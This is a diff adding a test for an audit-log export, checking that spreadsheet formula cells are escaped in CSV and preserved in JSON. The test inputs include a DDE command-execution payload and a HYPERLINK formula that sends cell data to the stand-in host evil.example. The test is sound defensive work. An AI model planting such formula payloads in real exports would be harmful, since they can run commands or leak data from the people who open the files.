@@ -303,6 +303,20 @@ describe('audit', () => {
     expect(lines.at(-1)!.endsWith(entries.at(-1)!.hash)).toBe(true);
   });
 
+  it('defuses cells a spreadsheet would run as a formula in the CSV export, and keeps them exact in JSON', async () => {
+    const [serial] = (await generate('Widgets', {}, { 'serialtrace-station': "+cmd|' /C calc'!A0" })).serials;
+    const reason = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    expect((await t.call('POST', `/api/v1/records/${serial}/status`, { as: t.admin, body: { status: 'voided', reason } })).status).toBe(200);
+    const csv = (await t.call('GET', '/api/v1/audit/export', { as: auditor, query: { format: 'csv' } })).body;
+    const cells = csv.trimEnd().split('\n').slice(-2).join('\n');
+    expect(cells).toContain(`,'+cmd|' /C calc'!A0,`);
+    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
+    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
+    const entries = (await t.call('GET', '/api/v1/audit/export', { as: auditor })).json as { reason: string | null; station: string | null }[];
+    expect(entries.at(-1)!.reason).toBe(reason);
+    expect(entries.at(-2)!.station).toBe("+cmd|' /C calc'!A0");
+  });
+
   it('verifies the chain, and names the first broken link after tampering', async () => {
     const valid = (await t.call('GET', '/api/v1/audit/verify', { as: auditor })).json;
     const count = (await t.call('GET', '/api/v1/audit/export', { as: auditor })).json.length;
